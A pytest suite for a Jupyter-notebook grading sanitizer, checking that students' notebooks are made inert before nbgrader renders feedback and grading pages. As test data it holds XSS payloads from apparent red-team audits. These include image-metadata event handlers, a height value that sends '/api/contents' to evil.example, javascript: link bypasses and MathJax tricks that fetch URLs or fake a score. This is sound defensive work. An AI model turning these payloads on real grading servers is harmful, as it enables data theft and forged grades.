"""A graded notebook shows what the student's code displayed, and runs none of it."""

from __future__ import annotations

import base64
import math
from pathlib import Path
from typing import Any

import nbformat
import pytest
from bs4 import BeautifulSoup
from nbconvert import HTMLExporter
from nbconvert.filters import markdown2html_mistune
from nbgrader.converters import GenerateFeedback
from nbgrader.coursedir import CourseDirectory

from descentlab_grading.sanitize import (
    NO_MATH,
    NOT_SHOWN,
    WIDGET_NOTE,
    MakeInert,
    inert,
    lesson_texts,
    safe_markdown,
    safe_metadata,
    safe_outputs,
)

SCRIPT = "<script>steal()</script>"


def make_safe(notebook: Path, release: Path) -> None:
    """``notebook`` (a file) made inert against ``release``, as MakeInert does in the
    autograde before nbgrader writes it."""
    nb = nbformat.read(notebook, as_version=4)
    inert(nb, lesson_texts(release))
    nbformat.write(nb, notebook)
AUTOGRADER = Path(__file__).resolve().parents[1]

#: What a red-team audit displayed through the real grade command: nbconvert writes an
#: image's width and height into its ``<img>`` tag unquoted, so each space starts an
#: attribute of the student's choice (under the image's type, or at the top level, where
#: nbconvert looks when the type has none).
HOSTILE_PNG = {"image/png": {"width": "300 onerror=alert(document.domain)"},
               "height": "2 onmouseover=alert(3)",
               "filenames": {"image/png": "javascript:alert(4)"}}
HOSTILE_JPEG = {"image/jpeg": {"width": 120, "height": "1 onerror=\"fetch('/api/contents')"
                                                      ".then(r => r.text()).then(t => "
                                                      "fetch('//evil.example/?' + t))\""}}
#: An honest figure: matplotlib's retina PNG, its size in CSS pixels (half the image's).
RETINA = {"image/png": {"width": 489, "height": 266}}
PNG, JPEG = "iVBORw0KGgo=", "/9j/4AAQ"


def _display(data: dict[str, Any], metadata: dict[str, Any] | None = None,
             ) -> nbformat.NotebookNode:
    return nbformat.v4.new_output("display_data", data=data, metadata=metadata or {})


def test_html_keeps_its_markup_and_loses_what_runs() -> None:
    [output] = safe_outputs([_display({
        "text/html": f'<h3>Loss</h3><table><tr><td>0.5</td></tr></table>{SCRIPT}'
                     '<img src="plot.png" onerror="steal()"><a href="javascript:steal()">x</a>',
        "text/plain": "<HTML object>"})])
    cleaned = output["data"]["text/html"]
    assert "<h3>Loss</h3>" in cleaned
    assert "<td>0.5</td>" in cleaned
    assert "<img>" in cleaned  # no src: see test_a_students_image_loads_nothing
    assert "steal" not in cleaned
    assert output["data"]["text/plain"] == "<HTML object>"


#: Images a student's HTML or markdown could make the reader's browser load: a tracking
#: pixel on another server, a path of the page's own server (the formgrader's /logout,
#: requested with the instructor's session).
LOADED = ["https://tracker.example/p.gif?who=me", "//tracker.example/p.gif", "/logout",
          "../../../logout", "plot.png"]


@pytest.mark.parametrize("src", LOADED)
def test_a_students_image_loads_nothing(src: str) -> None:
    html = safe_markdown(f"Look: ![my plot]({src}) and <img src='{src}' alt='raw'>")
    [output] = safe_outputs([_display({"text/html": f'<p>fig</p><img src="{src}" alt="b">',
                                       "text/markdown": f"![md]({src})"})])
    for page in (html, output["data"]["text/html"]):
        images = BeautifulSoup(page, "html.parser").find_all("img")
        assert images, page
        assert all(img.get("src") is None for img in images), page
        assert src.split("?")[0].lstrip("./") not in page.replace("<img", ""), page
    assert 'alt="my plot"' in html
    assert 'alt="b"' in output["data"]["text/html"]


def test_markdown_output_is_cleaned_too() -> None:
    [output] = safe_outputs([_display({"text/markdown": f"**bold** {SCRIPT}"})])
    assert output["data"] == {
        "text/html": f"{NO_MATH}\n<p><strong>bold</strong> </p>\n</div>\n"}


#: Markdown links a red-team audit showed reaching the page as ``href="javascript:..."``.
JS_LINKS = ["[x](javascript:alert(1))", "[x](java&#115;cript:alert(1))",
            "<javascript:alert(1)>", "[r]\n\n[r]: javascript:alert(1)",
            "![i](javascript:alert(1))", "[x](JavaScript:alert(1) 'title')"]


@pytest.mark.parametrize("link", JS_LINKS)
def test_markdown_links_that_run_script_lose_their_target(link: str) -> None:
    html = safe_markdown(f"Notes: {link} and *this* with $x^2$")
    targets = [a.get("href") or a.get("src") for a in BeautifulSoup(html, "html.parser")
               .find_all(["a", "img"])]
    assert not any(t and "script" in t.lower() for t in targets), html
    assert "<em>this</em>" in html
    assert "$x^2$" in html
    [output] = safe_outputs([_display({"text/markdown": link})])
    assert "href=" not in output["data"]["text/html"], output


def test_safe_markdown_links_stay() -> None:
    html = safe_markdown("[the book](https://example.org/a_b) and <https://example.org>")
    assert html.count('href="https://example.org') == 2, html


def test_an_image_pasted_into_a_markdown_cell_becomes_a_note() -> None:
    """Red-team round 5: JupyterLab writes a pasted image as ``attachment:``, whose data
    nbconvert's renderer is not given here: it raised, and the notebook failed to grade."""
    html = safe_markdown("My sketch:\n\n![sketch.png](attachment:sketch.png)\n\n**done**")
    assert "<em>(sketch.png: an image attached to the cell)</em>" in html, html
    assert "<strong>done</strong>" in html
    # A form the note does not replace (a reference definition) is shown as text.
    html = safe_markdown("![a][r] <script>x</script>\n\n[r]: attachment:zz.png")
    assert html.startswith(f"{NO_MATH}\n<pre>"), html
    assert "attachment:zz.png" in html
    assert "<script>" not in html


def test_what_a_browser_runs_is_dropped_and_text_images_stay() -> None:
    kept = {"text/plain": "<Figure>", "image/png": "iVBOR", "image/jpeg": "/9j/",
            "text/latex": r"$\eta$", "application/json": {"a": 1}}
    outputs = safe_outputs([
        _display({"application/javascript": "steal()", "image/svg+xml": f"<svg>{SCRIPT}</svg>",
                  "application/vnd.custom+json": {}, **kept}),
        _display({"application/javascript": "steal()"}),  # nothing left: no output
        nbformat.v4.new_output("stream", name="stdout", text=f"{SCRIPT}\n"),  # escaped text
        nbformat.v4.new_output("error", ename="ValueError", evalue="x", traceback=[]),
    ])
    assert [o.output_type for o in outputs] == ["display_data", "stream", "error"]
    # LaTeX shows as its source: MathJax would typeset it (test_no_math_of_the_students_...).
    assert outputs[0]["data"] == {**{k: v for k, v in kept.items() if k != "text/latex"},
                                  "text/plain": r"$\eta$"}


def test_an_svg_figure_shows_as_an_image_that_runs_nothing() -> None:
    """Red-team rounds 4 and 5: with matplotlib's figure_formats = {"svg"} a student's
    figures vanished from the feedback ("<Figure size ...>" only)."""
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="steal()"><circle r="4"/>{SCRIPT}</svg>'
    [output] = safe_outputs([_display({"image/svg+xml": svg, "text/plain": "<Figure>"})])
    [img] = BeautifulSoup(output["data"]["text/html"], "html.parser").find_all()
    assert img.name == "img"
    assert set(img.attrs) == {"src", "alt"}
    prefix = "data:image/svg+xml;base64,"
    assert img["src"].startswith(prefix)
    assert base64.b64decode(img["src"][len(prefix):]).decode() == svg  # the figure itself
    assert "image/svg+xml" not in output["data"]
    # Beside a PNG of the same figure, or with HTML of its own, nothing is added.
    [output] = safe_outputs([_display({"image/svg+xml": svg, "image/png": PNG})])
    assert output["data"] == {"image/png": PNG}
    [output] = safe_outputs([_display({"image/svg+xml": svg, "text/html": "<b>x</b>"})])
    assert output["data"] == {"text/html": f"{NO_MATH}<b>x</b></div>"}


def test_a_widget_says_what_it_is_instead_of_its_repr() -> None:
    [output] = safe_outputs([_display({
        "application/vnd.jupyter.widget-view+json": {"model_id": "abc", "version_major": 2},
        "text/plain": "VBox(children=(HTML(value='<b>Momentum</b>'),))"})])
    assert output["data"] == {"text/plain": WIDGET_NOTE}


def test_the_lessons_text_stays_and_the_students_own_is_cleaned(tmp_path: Path) -> None:
    lesson_text = "Compare $a < b$ with <b>bold</b> and > a quote"
    release = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(lesson_text),
                                              nbformat.v4.new_code_cell("x = 1")])
    nbformat.write(release, tmp_path / "release.ipynb")
    graded = nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_markdown_cell(lesson_text),
        nbformat.v4.new_markdown_cell(f"My notes <i>here</i>{SCRIPT}"),
        nbformat.v4.new_raw_cell(SCRIPT),
        nbformat.v4.new_code_cell("x = 1", outputs=[_display({"text/html": SCRIPT})]),
    ], metadata={"widgets": {"application/vnd.jupyter.widget-state+json": {"state": {}}}})
    nbformat.write(graded, tmp_path / "graded.ipynb")

    make_safe(tmp_path / "graded.ipynb", tmp_path / "release.ipynb")

    nb = nbformat.read(tmp_path / "graded.ipynb", as_version=4)
    assert [c.source for c in nb.cells] == [
        lesson_text, f"{NO_MATH}\n<p>My notes <i>here</i></p>\n</div>\n", "", "x = 1"]
    assert nb.cells[3].outputs[0]["data"] == {"text/html": ""}
    assert "widgets" not in nb.metadata


#: A red-team audit: markdown inside a raw HTML block was text to the first rendering; nh3
#: dropped the unknown tag around it, and the page's own rendering of the cell made it live
#: (the images loaded, the link ran its script on a click).
TWICE = ["<x-y>\n![A1](http://127.0.0.1:8711/A1.png)\n",
         "<textarea>\nintro\n\n![A2](http://127.0.0.1:8711/A2.png)\n</textarea>",
         "<x-y>\n[A3 click me](javascript:alert(document.domain))\n",
         "<x-y>\n![A4][r4]\n\n<x-y>\n[r4]: http://127.0.0.1:8711/A4-ref.png\n",
         "<x-y>\n![A5](/logout)\n",
         # The second look: the carriage returns of entities end lines for markdown.
         "<x-y>\nfoo&#13;&#13;![A6](http://127.0.0.1:8711/A6.png)\n",
         "<x-y>\nfoo&#13;\n&#13;\n![A7](http://127.0.0.1:8711/A7.png)\n",
         # The third look: the templates strip "files/" after href=" once they rendered it.
         "[see my derivation](files/javascript:void(fetch('http://127.0.0.1:8712/c')))",
         "[a](files/files/javascript:alert(1)) [b](/files/vbscript:x) [c](files/data:text/html,x)",
         '<a href="/files/javascript:alert(2)">d</a> [e](files&#47;javascript&#58;alert(3))',
         "[f][r]\n\n[r]: /files/javascript:alert(4)\n",
         '<a href="&#102;iles/javascript:alert(5)">g</a>',
         "[h](" + "files/" * 150 + "javascript:alert(6))"]
HONEST_MARKDOWN = ("My notes: $x^2$ and **bold**\n\n```\nstep 1\n\nstep 2\n```\n\n"
                   "| lr | loss |\n|---|---|\n| 0.1 | 0.5 |\n")


@pytest.mark.parametrize("text", [*TWICE, HONEST_MARKDOWN])
def test_a_markdown_cell_renders_again_to_itself(text: str) -> None:
    """The pages' templates render a markdown cell's text again: it must come out as it is."""
    cleaned = safe_markdown(text)
    assert markdown2html_mistune(cleaned).strip() == cleaned.strip()


@pytest.mark.parametrize("template", ["feedback", "formgrade"])
def test_markdown_rendered_twice_loads_and_runs_nothing(tmp_path: Path, template: str) -> None:
    nbformat.write(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x = 1")]),
                   tmp_path / "release.ipynb")
    cells = [nbformat.v4.new_markdown_cell(text) for text in [*TWICE, HONEST_MARKDOWN]]
    nbformat.write(nbformat.v4.new_notebook(cells=cells), tmp_path / "graded.ipynb")
    make_safe(tmp_path / "graded.ipynb", tmp_path / "release.ipynb")
    page = (_feedback_page if template == "feedback" else _formgrade_page)(
        tmp_path / "graded.ipynb")
    soup = BeautifulSoup(page, "html.parser")
    assert not [a for a in soup.find_all(href=True)
                if a["href"].strip().lower().startswith(("javascript:", "vbscript:", "data:"))]
    assert not [img for img in soup.find_all("img") if img.get("src")]
    assert "click me](javascript:alert(document.domain))" in page, "shown as the text it is"
    assert "<strong>bold</strong>" in page
    assert "$x^2$" in page
    assert "<td>0.1</td>" in page
    assert "step 1\n<!---->\nstep 2" in page, "the code's empty line stays a line"


def test_an_images_size_stays_only_as_a_positive_number() -> None:
    for size in (489, 244.5, "300"):
        assert safe_metadata({"image/png": {"width": size}}) == {"image/png": {"width": size}}
    for size in ("300 onerror=alert(1)", "300px", "50%", " 300", "\u0663", "0", 0, -5,
                 math.inf, math.nan, True, None, [300], {"a": 1}):
        assert safe_metadata({"image/png": {"width": size}, "height": size}) == {}, size


def test_output_metadata_keeps_what_an_image_means_and_nothing_else() -> None:
    honest = {"image/png": {"width": 400, "height": "300", "alt": 'a "loss" curve',
                            "unconfined": True, "needs_background": "light"}}
    assert safe_metadata(honest) == honest
    assert safe_metadata({
        "image/png": {"unconfined": "yes", "needs_background": "x onclick=y", "alt": 3,
                      "src": "javascript:alert(1)"},
        "text/html": {"isolated": True}, "filenames": {"image/png": "javascript:alert(1)"},
        "application/json": {"expanded": True}, "anything": "else"}) == {}
    assert safe_metadata("300 onerror=alert(1)") == {}
    assert safe_metadata({"image/jpeg": "1 onerror=alert(1)"}) == {}


def _graded_with_figures(tmp_path: Path) -> Path:
    """A graded notebook whose code displayed the audit's images and an honest figure."""
    nbformat.write(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x = 1")]),
                   tmp_path / "release.ipynb")
    figures = nbformat.v4.new_code_cell("plot()", execution_count=1, outputs=[
        _display({"image/png": PNG, "text/plain": "<Figure>"}, HOSTILE_PNG),
        _display({"image/jpeg": JPEG, "text/plain": "<Image>"}, HOSTILE_JPEG),
        _display({"image/png": PNG, "text/plain": "<Figure size 640x480>"}, RETINA),
        nbformat.v4.new_output("execute_result", execution_count=1,
                               data={"image/png": PNG}, metadata=HOSTILE_PNG),
    ])
    nbformat.write(nbformat.v4.new_notebook(cells=[figures]), tmp_path / "graded.ipynb")
    make_safe(tmp_path / "graded.ipynb", tmp_path / "release.ipynb")
    return tmp_path / "graded.ipynb"


def test_the_graded_notebook_keeps_only_harmless_output_metadata(tmp_path: Path) -> None:
    nb = nbformat.read(_graded_with_figures(tmp_path), as_version=4)
    assert [o.metadata for o in nb.cells[0].outputs] == [
        {}, {"image/jpeg": {"width": 120}}, RETINA, {}]
    assert [o.data for o in nb.cells[0].outputs][:3] == [
        {"image/png": PNG, "text/plain": "<Figure>"},
        {"image/jpeg": JPEG, "text/plain": "<Image>"},
        {"image/png": PNG, "text/plain": "<Figure size 640x480>"}]


def _feedback_page(notebook: Path) -> str:
    """``notebook`` as ``nbgrader generate_feedback`` renders it: nbgrader's exporter, made
    as nbgrader makes it (its "feedback" template, on nbconvert's classic one), without the
    preprocessors that read the gradebook (their scores are given here)."""
    converter = GenerateFeedback(coursedir=CourseDirectory(root=str(notebook.parent)))
    exporter = HTMLExporter(parent=converter, config=converter.config)
    assert exporter.template_name == "feedback"
    page, _ = exporter.from_filename(str(notebook), resources={"nbgrader": {
        "notebook": notebook.stem, "score": 0.0, "max_score": 1.0, "late_penalty": 0.0}})
    return page


def _formgrade_page(notebook: Path) -> str:
    """``notebook`` as the formgrader shows a submission (nbgrader's "formgrade" template)."""
    from nbgrader.server_extensions.formgrader import handlers

    exporter = HTMLExporter(template_name="formgrade",
                            extra_template_basedirs=[handlers.template_path])
    page, _ = exporter.from_filename(str(notebook), resources={
        "assignment_id": "a", "notebook_id": notebook.stem, "submission_id": "s", "index": 0,
        "total": 1, "base_url": "", "student": "s", "last_name": None, "first_name": None,
        "notebook_path": "/tree/x"})
    return page


def test_the_feedback_page_runs_nothing_from_output_metadata(tmp_path: Path) -> None:
    page = _feedback_page(_graded_with_figures(tmp_path))
    for word in ("onerror", "onmouseover", "/api/contents"):
        assert word not in page.lower(), word
    soup = BeautifulSoup(page, "html.parser")
    for style in soup.find_all("style"):  # Bootstrap's own CSS names a[href^="javascript:"]
        style.decompose()
    assert "javascript:" not in str(soup).lower()
    assert not [tag for tag in soup.find_all(True)
                if any(name.lower().startswith("on") for name in tag.attrs)]
    # nbconvert gives an image without alt text one of its own ("No description ...").
    images = [{name: value for name, value in img.attrs.items() if name != "alt"}
              for img in soup.find_all("img")]
    src_png, src_jpeg = f"data:image/png;base64,{PNG}", f"data:image/jpeg;base64,{JPEG}"
    # Every figure is shown; the honest one at its size.
    assert images == [{"src": src_png}, {"src": src_jpeg, "width": "120"},
                      {"src": src_png, "width": "489", "height": "266"}, {"src": src_png}]


def test_a_size_of_thousands_of_digits_is_no_size_and_no_error() -> None:
    """A red-team audit: int() of 5,000 digits raised ValueError inside the cleaning."""
    assert safe_metadata({"image/png": {"width": "1" * 5000, "height": "20"}}) == {
        "image/png": {"height": "20"}}


def _release_dir(tmp_path: Path, lesson_text: str) -> Path:
    release = tmp_path / "release"
    (release / "l").mkdir(parents=True)
    nbformat.write(nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(lesson_text)]),
                   release / "l" / "l.ipynb")
    return release


def _hostile(lesson_text: str) -> nbformat.NotebookNode:
    return nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_markdown_cell(lesson_text),
        nbformat.v4.new_markdown_cell(f"notes {SCRIPT}"),
        nbformat.v4.new_code_cell("x", outputs=[_display({"text/html": SCRIPT})]),
        nbformat.v4.new_code_cell("y")])


def test_autograde_writes_the_notebook_already_cleaned(tmp_path: Path) -> None:
    """The last preprocessor of the autograde: no window in which the file is raw."""
    from descentlab_grading.model import Course, Settings

    lesson_text = "The lesson's <b>own</b> text"
    nb = _hostile(lesson_text)
    step = MakeInert(release_directory=str(_release_dir(tmp_path, lesson_text)))
    step.preprocess(nb, {"nbgrader": {"assignment": "l", "notebook": "l"}})
    assert SCRIPT not in nbformat.writes(nb)
    assert nb.cells[0].source == lesson_text
    assert nb.cells[2].outputs[0]["data"] == {"text/html": ""}
    course = Course(root=tmp_path / "c", source=tmp_path, config_dir=AUTOGRADER)
    config = course.config(Settings(workers=1), runtime=tmp_path / "runtime")
    assert config.Autograde.autograde_preprocessors[-1] is MakeInert
    assert config.MakeInert.release_directory == str(tmp_path / "c" / "release")


def test_a_cleaning_that_fails_shows_nothing_of_the_students(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from descentlab_grading import sanitize

    def broken(outputs: Any) -> list[Any]:
        raise ValueError("an output the cleaning cannot read")

    monkeypatch.setattr(sanitize, "safe_outputs", broken)
    lesson_text = "The lesson's text"
    nb = _hostile(lesson_text)
    step = MakeInert(release_directory=str(_release_dir(tmp_path, lesson_text)))
    step.preprocess(nb, {"nbgrader": {"assignment": "l", "notebook": "l"}})
    assert SCRIPT not in nbformat.writes(nb)
    assert [c.source for c in nb.cells[:2]] == [lesson_text, NOT_SHOWN]
    assert nb.cells[2].outputs == [nbformat.v4.new_output("stream", name="stdout",
                                                          text=NOT_SHOWN + "\n")]
    assert nb.cells[3].outputs == []
    # Not even the release can be read: every markdown cell is the note.
    nb = _hostile(lesson_text)
    MakeInert(release_directory=str(tmp_path / "nowhere")).preprocess(
        nb, {"nbgrader": {"assignment": "l", "notebook": "l"}})
    assert SCRIPT not in nbformat.writes(nb)
    assert [c.source for c in nb.cells[:2]] == [NOT_SHOWN, NOT_SHOWN]


#: What a red-team audit had MathJax do with a student's text: fetch a URL as the page
#: loads (a cursor style), and draw a fake score over the grader's heading.
MATH = [r"$\style{cursor:url(http://127.0.0.1:8764/c),auto}{x}$",
        r"$\smash{\rlap{\raise{122px}{\Huge\text{Score: 10 / 8}}}}$",
        r"\begin{equation}\style{cursor:url(http://127.0.0.1:8764/e),auto}{y}\end{equation}"]


def _typeset(page: str) -> list[str]:
    """Text of ``page`` that the pages' MathJax 2 would read as math: not inside an element
    of class tex2jax_ignore or a tag it skips (script, pre, code, ...)."""
    skipped = {"script", "noscript", "style", "textarea", "pre", "code", "annotation"}
    soup = BeautifulSoup(page, "html.parser")
    found = []
    for text in soup.find_all(string=True):
        parents = list(text.parents)
        if any(p.name in skipped or "tex2jax_ignore" in (p.get("class") or [])
               for p in parents if p.name):
            continue
        if "\\style" in text or "\\begin" in text or "Score: 10" in text:
            found.append(str(text))
    return found


def test_no_math_of_the_students_is_typeset(tmp_path: Path) -> None:
    nbformat.write(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x = 1")]),
                   tmp_path / "release.ipynb")
    cells = [nbformat.v4.new_markdown_cell(f"notes {m}") for m in MATH]
    cells.append(nbformat.v4.new_raw_cell(f"<p>{MATH[0]}</p>"))
    cells.append(nbformat.v4.new_code_cell("show()", outputs=[
        _display({"text/html": f"<p>{m}</p>"}) for m in MATH] + [
        _display({"text/latex": m, "text/plain": "<Math>"}) for m in MATH] + [
        _display({"text/markdown": m}) for m in MATH]))
    nbformat.write(nbformat.v4.new_notebook(cells=cells), tmp_path / "graded.ipynb")
    make_safe(tmp_path / "graded.ipynb", tmp_path / "release.ipynb")
    for render in (_feedback_page, _formgrade_page):
        page = render(tmp_path / "graded.ipynb")
        assert "cursor:url" in page, "the text is still shown"
        assert _typeset(page) == [], render.__name__


def test_a_test_cells_displays_show_as_text() -> None:
    """A red-team audit: an HTML "Score: 10 / 8" shown by update() under a test cell."""
    from descentlab_grading.sanitize import inert

    fake = "<h2>Score: 10 / 8 (8 required + 2 bonus)</h2>"
    cell = nbformat.v4.new_code_cell("assert_property(...)", outputs=[
        _display({"text/html": fake, "text/plain": "<HTML>"}),
        _display({"text/html": fake}),
        nbformat.v4.new_output("stream", name="stdout", text="printed\n")])
    cell.metadata["nbgrader"] = {"grade": True, "solution": False, "grade_id": "t", "points": 1}
    nb = nbformat.v4.new_notebook(cells=[cell])
    inert(nb, set())
    assert [o.get("data") for o in nb.cells[0].outputs] == [{"text/plain": "<HTML>"}, None]
